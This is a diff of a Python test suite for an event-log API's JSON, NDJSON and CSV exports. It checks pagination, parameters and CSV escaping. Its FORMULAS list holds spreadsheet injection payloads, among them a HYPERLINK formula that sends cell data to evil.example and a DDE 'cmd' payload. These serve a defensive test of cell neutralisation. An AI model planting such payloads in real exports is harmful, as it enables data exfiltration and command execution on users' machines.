@@ -10,7 +10,8 @@ import urllib.parse
 from node import ADA, SharedNodeTest, run
 
 DANGEROUS = "=+-@\t\r\n"
-FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/C calc'!A0", '"=1', ",=1",
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/C calc'!A0", '"=1',
+            ",=1",
             "'=1"]
 
 
@@ -18,7 +19,8 @@ class Trail(SharedNodeTest):
     def get(self, path="/events", accept="application/json", status=200, **parameters):
         query = urllib.parse.urlencode({name.rstrip("_"): value for name, value in parameters.items()},
                                        quote_via=urllib.parse.quote)
-        answer = self.node.get(f"/v1/accounts/{self.account}{path}?{query}", token=self.token, headers={"Accept": accept})
+        answer = self.node.get(f"/v1/accounts/{self.account}{path}?{query}", token=self.token,
+                               headers={"Accept": accept})
         self.assertEqual(answer.status, status, answer)
         return answer
 
@@ -78,10 +80,23 @@ class Contents(Trail):
         self.node.create(self.node.token(other), other)
         self.assertEqual({event["account"] for event in self.events()}, {self.account})
         self.assertEqual(self.node.get("/v1/accounts/never-heard-of/events",
-                                       token=self.node.token("never-heard-of")).json, {"events": [], "next_after": None})
+                                       token=self.node.token("never-heard-of")).json,
+                         {"events": [], "next_after": None})
 
 
 class Questions(Trail):
+    @staticmethod
+    def read_page(answer):
+        """The positions on a page in any form, and the `after` of the next one; None if it was the last."""
+        lines = answer.body.decode().splitlines()
+        if answer.json is not None:
+            return [event["position"] for event in answer.json["events"]], answer.json["next_after"]
+        if answer.headers["content-type"] == "application/x-ndjson":
+            found = [json.loads(line)["position"] for line in lines]
+        else:
+            found = [int(row["position"]) for row in csv.DictReader(lines)]
+        return found, answer.headers.get("keyledger-next-after")
+
     def test_after_limit_and_order_walk_through_all_of_it(self):
         self.story()
         everything = self.events()
@@ -90,16 +105,7 @@ class Questions(Trail):
                 for accept in ("application/json", "application/x-ndjson", "text/csv"):
                     positions, after = [], 0
                     while after is not None:
-                        answer = self.get(accept=accept, order=order, limit=limit, after=after)
-                        if accept == "application/json":
-                            found = [event["position"] for event in answer.json["events"]]
-                            after = answer.json["next_after"]
-                        else:
-                            lines = answer.body.decode().splitlines()
-                            found = ([json.loads(line)["position"] for line in lines] if "ndjson" in accept else
-                                     [int(row["position"]) for row in csv.DictReader(lines)])
-                            after = int(answer.headers["keyledger-next-after"]) if "keyledger-next-after" in answer.headers \
-                                else None
+                        found, after = self.read_page(self.get(accept=accept, order=order, limit=limit, after=after))
                         self.assertLessEqual(len(found), limit)
                         positions += found
                     wanted = [event["position"] for event in everything]
@@ -107,7 +113,8 @@ class Questions(Trail):
 
     def test_a_type_is_all_that_is_shown_of_it(self):
         self.story()
-        for name, count in (("KeyCreated", 2), ("KeyRenamed", 1), ("AccountRegistered", 1), ("KeyEnabled", 0), ("Nope", 0)):
+        for name, count in (("KeyCreated", 2), ("KeyRenamed", 1), ("AccountRegistered", 1), ("KeyEnabled", 0),
+                            ("Nope", 0)):
             found = self.get(type=name).json["events"]
             self.assertEqual([event["type"] for event in found], [f"keyledger.{name}"] * count)
         self.assertEqual(len(self.get(type="KeyCreated", limit=1).json["events"]), 1)
@@ -127,7 +134,8 @@ class Questions(Trail):
         self.assertEqual(self.get(from_=shifted.isoformat()).json["events"], events[-1:])
 
     def test_a_parameter_that_can_not_be_read_is_400(self):
-        for parameters in ({"after": "-1"}, {"after": "x"}, {"after": ""}, {"limit": 0}, {"limit": 1001}, {"from": "now"},
+        for parameters in ({"after": "-1"}, {"after": "x"}, {"after": ""}, {"limit": 0}, {"limit": 1001},
+                           {"from": "now"},
                            {"to": "2026-01-01"}, {"order": "newest"}, {"types": "KeyCreated"}, {"cursor": "x"}):
             self.get(status=400, **parameters)
         self.get(accept="application/xml", status=406)
@@ -153,7 +161,8 @@ class Forms(Trail):
         self.assertEqual(replay("--until", events[-1]["time"]), events[:-1])
         self.assertEqual(replay("--after", events[-1]["position"]), [])
         everything = [json.loads(line) for line in run("replay", "--data-dir", self.node.data_dir)[0].splitlines()]
-        self.assertEqual([event["type"] for event in everything[:2]], ["keyledger.LedgerCreated", "keyledger.WriterElected"])
+        self.assertEqual([event["type"] for event in everything[:2]], ["keyledger.LedgerCreated",
+                                                                       "keyledger.WriterElected"])
 
     def test_csv_has_the_events_in_columns(self):
         key = self.story()
@@ -163,11 +172,13 @@ class Forms(Trail):
             actor = event["data"]["actor"]
             self.assertEqual(
                 (row["position"], row["time"], row["type"], row["account"], row["key_id"], row["key_version"]),
-                (str(event["position"]), event["time"], event["type"], self.account, key["id"], str(event["keyversion"])))
+                (str(event["position"]), event["time"], event["type"], self.account, key["id"],
+                 str(event["keyversion"])))
             self.assertEqual((row["actor_subject"], row["actor_username"], row["actor_address"], row["request_id"]),
                              (actor["subject"], ADA, "127.0.0.1", actor["request_id"]))
         self.assertEqual([(row["name"], row["description"], row["enabled"], row["reason"]) for row in rows],
-                         [("a", "b", "true", ""), ("c", "", "", "lost"), ("", "", "", "lost"), ("",) * 4, ("", "", "", "done")])
+                         [("a", "b", "true", ""), ("c", "", "", "lost"), ("", "", "", "lost"), ("",) * 4,
+                          ("", "", "", "done")])
         disposition = self.get(accept="text/csv").headers["content-disposition"]
         self.assertEqual(disposition, 'attachment; filename="keyledger-events.csv"')
 
@@ -178,7 +189,8 @@ class Forms(Trail):
             headers = {"User-Agent": text, "X-Request-Id": "-1"}
             key = self.node.post(self.keys, {"name": text, "description": text}, token=token, headers=headers).json
             self.node.patch(f"{self.keys}/{key['id']}", {"name": "x", "reason": text}, token=token, headers=headers)
-            self.node.put(f"/v1/accounts/{self.account}", {"username": text.replace(":", "")}, token=token, headers=headers)
+            self.node.put(f"/v1/accounts/{self.account}", {"username": text.replace(":", "")}, token=token,
+                          headers=headers)
         for text in multiline:
             self.create(name="a", description=text)
         rows = self.table(limit=1000)
@@ -190,7 +202,8 @@ class Forms(Trail):
         created = [row for row in rows if row["type"] == "keyledger.KeyCreated"]
         self.assertEqual([undone(row["name"]) for row in created if row["name"] != "a"][:8], FORMULAS[:8])
         self.assertEqual([undone(row["description"]) for row in created][-3:], multiline)
-        for column in ("actor_subject", "actor_username", "actor_user_agent", "request_id", "reason", "name", "username"):
+        for column in ("actor_subject", "actor_username", "actor_user_agent", "request_id", "reason", "name",
+                       "username"):
             self.assertTrue(any(row[column].startswith("'") for row in rows), column)
 
     def test_quotes_commas_and_line_ends_stay_in_their_cell(self):
